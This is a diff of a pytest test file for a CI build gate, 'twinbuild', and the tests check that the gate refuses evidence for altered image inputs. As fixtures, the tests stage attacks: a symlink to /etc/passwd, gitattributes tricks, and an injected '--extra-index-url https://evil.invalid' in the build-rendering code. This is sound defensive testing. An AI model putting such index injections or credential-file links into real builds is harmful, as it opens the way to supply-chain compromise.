@@ -13,7 +13,7 @@ from pathlib import Path
 
 import pytest
 
-from tests.unit.gate_repos import PR, GateRepo, make_repo, run_gate
+from tests.unit.gate_repos import PR, GateRepo, approved, make_repo, run_gate
 from tests.unit.gitrepos import commit_all, git, needs_git
 from twinbuild.cli.main import main
 from twinbuild.evidence.head import commit_inputs
@@ -30,16 +30,24 @@ def _refused_commit(repo: GateRepo, head: str) -> list[str]:
     """The refusal for evidence of the tested commit at a head whose inputs differ."""
     tested, now = commit_inputs(repo.tested), commit_inputs(head)
     return [
-        f"twinbuild: refs/heads/validate/pr-{PR}:evidence/{p}.dsse.json: commit: evidence is for "
-        f"commit {repo.tested}, the PR head is {head} and its inputs hash {tested.inputs[p]} is "
-        f"not the PR head's {now.inputs[p]}; push the new head to validate/pr-{PR} to validate it"
+        f"twinbuild: refs/heads/validate/pr-{PR}:evidence/{p}.dsse.json: inputs: evidence tested "
+        f"inputs {tested.inputs[p]} (commit {repo.tested[:12]}); the PR head {head[:12]} has "
+        f"{now.inputs[p]}; push the new head to validate/pr-{PR} to validate it"
         for p in ("cuda", "rocm")
         if tested.inputs[p] != now.inputs[p]
     ]
 
 
+def _gate(
+    capsys: pytest.CaptureFixture[str], repo: GateRepo, head: str
+) -> tuple[int, list[str], list[str]]:
+    """The gate as gate.yml runs it, with a code owner's approval of the head: these attacks are
+    on the image inputs, and several touch trust roots (.gitattributes, twinbuild/) as well."""
+    return run_gate(capsys, head, "--base", repo.base, approved(repo, head))
+
+
 def test_the_tested_commit_passes(repo: GateRepo, capsys: pytest.CaptureFixture[str]) -> None:
-    code, out, err = run_gate(capsys, repo.tested, "--base", repo.base)
+    code, out, err = _gate(capsys, repo, repo.tested)
     assert (code, err) == (0, [])
     assert [line.split(";")[0] for line in out] == [
         "cuda: 2 passed, 0 skipped on 1x NVIDIA H200 (driver 570.86, 12.9)",
@@ -72,21 +80,23 @@ def test_export_subst_cannot_make_other_bytes_look_tested(
     ).stdout
     assert tested.encode() in archived  # the attack is real: the archive shows the tested bytes
     assert script.read_text() != tested
-    code, _, err = run_gate(capsys, head)
+    code, _, err = _gate(capsys, repo, head)
     assert (code, err) == (7, _refused_commit(repo, head))
     assert len(err) == 2  # the root .gitattributes is above every input of both platforms
     # The script's committed bytes are hashed on their own, whatever the attributes say.
     script.write_text(tested)
     same_attributes = commit_all(repo.root, "the tested script, same attributes")
-    assert commit_inputs(same_attributes).inputs["cuda"] != commit_inputs(head).inputs["cuda"]
-    assert commit_inputs(same_attributes).inputs["rocm"] == commit_inputs(head).inputs["rocm"]
+    for platform in ("cuda", "rocm"):  # images/common/ is an input of both, copied or not
+        assert (
+            commit_inputs(same_attributes).inputs[platform] != commit_inputs(head).inputs[platform]
+        )
 
 
 def test_an_eol_attribute_is_an_input(repo: GateRepo, capsys: pytest.CaptureFixture[str]) -> None:
     # A checkout with this attribute writes CRLF into the script: other bytes than were tested.
     (repo.root / ".gitattributes").write_text("*.sh text eol=crlf\n")
     head = commit_all(repo.root, "eol")
-    code, _, err = run_gate(capsys, head)
+    code, _, err = _gate(capsys, repo, head)
     assert (code, err) == (7, _refused_commit(repo, head))
 
 
@@ -104,7 +114,7 @@ def test_a_filter_configured_on_the_runner_changes_nothing(
         ["git", "archive", head, "images/common/checkout.sh"], capture_output=True, check=True
     ).stdout
     assert b"evil" not in archived  # the attack is real
-    code, _, err = run_gate(capsys, head)
+    code, _, err = _gate(capsys, repo, head)
     assert (code, err) == (7, _refused_commit(repo, head))
 
 
@@ -113,7 +123,7 @@ def test_a_symlink_among_the_inputs_is_refused(
 ) -> None:
     (repo.root / "images/common/passwd").symlink_to("/etc/passwd")
     head = commit_all(repo.root, "symlink")
-    code, out, err = run_gate(capsys, head)
+    code, out, err = _gate(capsys, repo, head)
     assert (code, out) == (2, [])
     assert err == [
         f"twinbuild: {head}:images/common/passwd: a symlink (mode 120000) among the image inputs "
@@ -132,7 +142,7 @@ def test_a_gitlink_among_the_inputs_is_refused(
     commit_all(sub, "vendored")
     head = commit_all(repo.root, "gitlink")
     assert "160000" in git(repo.root, "ls-tree", head, "images/common/vendored")
-    code, _, err = run_gate(capsys, head)
+    code, _, err = _gate(capsys, repo, head)
     assert err == [
         f"twinbuild: {head}:images/common/vendored: a gitlink, i.e. a submodule (mode 160000) "
         "among the image inputs (copied by images/cuda/Dockerfile:10); commit the file itself, "
@@ -153,7 +163,7 @@ def test_a_change_to_the_code_that_renders_the_build_is_refused(
         text.replace(marker, '"--extra-index-url https://evil.invalid\\n" + ' + marker)
     )
     head = commit_all(repo.root, "render: one more index")
-    code, _, err = run_gate(capsys, head)
+    code, _, err = _gate(capsys, repo, head)
     assert (code, err) == (7, _refused_commit(repo, head))
     assert len(err) == 2  # builder code feeds both platforms
 
@@ -164,7 +174,7 @@ def test_a_change_to_the_build_context_assembly_is_refused(
     image = repo.root / "twinbuild/build/image.py"
     image.write_text(image.read_text() + "\n# assemble differently\n")
     head = commit_all(repo.root, "build: change")
-    code, _, err = run_gate(capsys, head)
+    code, _, err = _gate(capsys, repo, head)
     assert (code, len(err)) == (7, 2)
 
 
